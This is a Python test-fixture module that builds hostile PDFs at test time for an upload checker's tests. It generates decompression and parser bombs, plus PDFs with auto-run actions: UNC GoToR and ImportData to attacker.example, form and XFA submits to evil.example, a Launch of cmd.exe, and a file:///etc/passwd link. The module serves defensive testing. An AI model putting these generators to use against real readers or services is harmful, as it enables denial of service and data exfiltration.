"""Hostile PDFs built at test time (issue 18, finding 4), none of them committed.

Each is a small, well-formed PDF (catalog, one page, a cross-reference table) with one hostile
part: the fields bomb of the finding (1.7 million /Fields entries in about 10 MB), the same bomb
hidden in a compressed object stream, a 300,000-element array, arrays nested 300,000 deep, and
the actions that leave the document (GoToR to a UNC path, SubmitForm, Launch, ImportData,
a file: link, an XFA form).
"""

from __future__ import annotations

import contextlib
import zlib
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

from core import sandbox

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def build(catalog_extra: bytes = b"", *objects: bytes, page: bytes = PAGE) -> bytes:
    """A PDF whose catalog carries `catalog_extra`; `objects` are numbered 4, 5, ..."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def fields_bomb(entries: int = 1_700_000) -> bytes:
    """The finding's file: /AcroForm /Fields with 1.7 million references, about 10 MB."""
    fields = b"4 0 R " * entries
    return build(b"/AcroForm << /Fields [" + fields + b"] >>", b"<< /FT /Tx /T (a) >>")


def fields_bomb_in_an_object_stream(entries: int = 1_700_000) -> bytes:
    """The same bomb, compressed inside an object stream (invisible to a scan of raw bytes)."""
    form = b"<< /Fields [" + b"4 0 R " * entries + b"] >>"
    header = b"5 0 "
    packed = zlib.compress(header + form, 9)
    return build(
        b"/AcroForm 5 0 R",
        b"<< /FT /Tx /T (a) >>",
        stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), packed),
    )


def long_array(items: int = 300_000) -> bytes:
    return build(b"/Padding [" + b"0 " * items + b"]")


def deeply_nested_arrays(depth: int = 300_000) -> bytes:
    return build(b"/Padding " + b"[" * depth + b"]" * depth)


def zip_bomb_object_stream(mebibytes: int = 1024) -> bytes:
    """An object stream that inflates to 1 GiB (1 MB compressed).

    After a full flush a compressor starts afresh, so every further MiB of spaces compresses
    to the same bytes: compressed once, repeated (the checksum at the end is left wrong, as
    a bomb's may be; nothing should read that far).
    """
    deflater = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    first = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    again = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    packed = first + again * (mebibytes - 1) + deflater.flush()
    return build(b"", stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed))


def zip_bomb_content_stream(mebibytes: int = 1024) -> bytes:
    """A page whose content stream inflates to 1 GiB (about 1 MB compressed): no parser needs
    it to read the file, but a viewer that shows the page decompresses it all."""
    deflater = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    first = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    again = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    packed = first + again * (mebibytes - 1) + deflater.flush()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return build(b"", stream(b"/Filter /FlateDecode", packed), page=page)


def with_open_action(action: bytes) -> bytes:
    return build(b"/OpenAction 4 0 R", action)


def go_to_remote_unc() -> bytes:
    return with_open_action(
        b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    )


def submit_form() -> bytes:
    """A text field that sends the form to another server when it changes."""
    field = (
        b"<< /FT /Tx /T (iec) /Rect [0 0 100 20] /Subtype /Widget /P 3 0 R "
        b"/AA << /K << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >> >>"
    )
    return build(b"/AcroForm << /Fields [4 0 R] >>", field)


def launch() -> bytes:
    return with_open_action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")


def import_data() -> bytes:
    return with_open_action(b"<< /S /ImportData /F (\\\\\\\\attacker.example\\\\data.fdf) >>")


def link_to_a_file() -> bytes:
    return with_open_action(b"<< /S /URI /URI (file:///etc/passwd) >>")


def hidden_go_to_remote() -> bytes:
    """GoToR spelled with a #-escape and behind an indirect /S: a reader still runs it."""
    return build(b"/OpenAction 4 0 R", b"<< /S 5 0 R /F (x.pdf) >>", b"/Go#54oR")


def xfa_form() -> bytes:
    """An XFA form that posts itself to another server when opened."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><submit target="https://evil.example/collect"/></event>'
        b"</subform></template></xdp:xdp>"
    )
    return build(b"/AcroForm << /Fields [] /XFA 4 0 R >>", stream(b"", xfa))


def web_and_internal_links() -> bytes:
    """What real invoices carry: a link to a web page and one within the document. Accepted."""
    web = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://x.in) >> >>"
    )
    internal = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    )
    return build(b"/OpenAction [3 0 R /Fit]", web, internal)


# name: builder; "unchecked" ones are refused for their structure, "unsafe" for their content.
HOSTILE = {
    "fields bomb (1.7 million /Fields entries)": ("unchecked", fields_bomb),
    "fields bomb in an object stream": ("unchecked", fields_bomb_in_an_object_stream),
    "300,000-element array": ("unchecked", long_array),
    "arrays nested 300,000 deep": ("unchecked", deeply_nested_arrays),
    "object stream inflating to 1 GiB": ("unchecked", zip_bomb_object_stream),
    # The outside tester's: a 1 MB file the public check refused and the exporter's accepted.
    "page content stream inflating to 1 GiB": ("unchecked", zip_bomb_content_stream),
    "GoToR to a UNC path": ("unsafe", go_to_remote_unc),
    "GoToR behind an escape and a reference": ("unsafe", hidden_go_to_remote),
    "SubmitForm": ("unsafe", submit_form),
    "Launch": ("unsafe", launch),
    "ImportData": ("unsafe", import_data),
    "a link to file:///etc/passwd": ("unsafe", link_to_a_file),
    "XFA form that submits itself": ("unsafe", xfa_form),
}


def write_corpus(directory: Path) -> dict[str, tuple[str, Path]]:
    """Build every hostile PDF into `directory` (a test's temporary one): name -> (kind, path)."""
    corpus = {}
    for number, (name, (kind, builder)) in enumerate(sorted(HOSTILE.items())):
        path = directory / f"hostile-{number:02}.pdf"
        path.write_bytes(builder())
        corpus[name] = (kind, path)
    return corpus


@contextlib.contextmanager
def recorded_sandbox_runs() -> Iterator[list[sandbox.Ran]]:
    """Every child the upload checks run meanwhile, with the limits it ran under."""
    runs: list[sandbox.Ran] = []
    real_run = sandbox.run

    def run(*args, **kwargs):
        ran = real_run(*args, **kwargs)
        runs.append(ran)
        return ran

    with mock.patch.object(sandbox, "run", run):
        yield runs
